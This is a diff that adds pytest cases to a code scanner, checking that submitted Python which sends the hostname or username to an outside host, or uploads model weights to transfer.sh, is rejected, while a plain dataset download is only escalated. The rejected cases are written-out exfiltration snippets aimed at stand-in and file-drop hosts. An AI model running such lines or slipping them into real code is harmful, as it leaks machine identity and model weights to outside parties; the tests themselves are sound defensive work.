@@ -51,3 +51,29 @@ def test_a_batch_of_the_whole_table_is_an_aggregate() -> None:
 @pytest.mark.parametrize("size", ["len(picked)", "len(df) // len(df)", "max(1, len(df) // 10**9)"])
 def test_a_batch_size_that_may_be_one_is_held(size: str) -> None:
     assert kit.scan_text(ONE_BATCH.format(size=size)).decision.value != "accept"
+
+
+@pytest.mark.parametrize("body", [
+    "import socket, urllib.request\nurllib.request.urlopen('http://203.0.113.7/b?h=' + socket.gethostname())\n",
+    "import getpass, requests\nrequests.get('https://status.example.org/ping', params={'u': getpass.getuser()})\n",
+])
+def test_a_fact_about_the_host_sent_over_the_network_rejects(body: str) -> None:
+    """malware_probes49b's timer beacon escalated once egress54 made a plain request a capability: the host's name
+    or its user in a request is what a beacon sends home (values._sent, Origin.machine)."""
+    report = kit.scan_text(body)
+    assert kit.holds(report, "network.data-to-network") and report.decision.value == "reject"
+
+
+def test_a_model_put_to_a_file_drop_rejects() -> None:
+    """transfer.sh only as a URL's host (rules/lists/network.yaml collector-urls): a shell script of that name is
+    no collector."""
+    report = kit.scan_text("import io, torch, urllib.request\nnet = torch.nn.Linear(3, 1)\nbuf = io.BytesIO()\n"
+                           "torch.save(net.state_dict(), buf)\nreq = urllib.request.Request('https://transfer.sh/w.pt', "
+                           "data=buf.getvalue(), method='PUT')\nurllib.request.urlopen(req)\n")
+    assert report.decision.value == "reject"
+
+
+def test_a_download_of_a_spelled_url_stays_a_capability() -> None:
+    report = kit.scan_text("import urllib.request\n"
+                           "urllib.request.urlretrieve('https://data.example.org/mnist/train.npz', 'data/train.npz')\n")
+    assert report.decision.value == "escalate" and not kit.holds(report, "network.data-to-network")
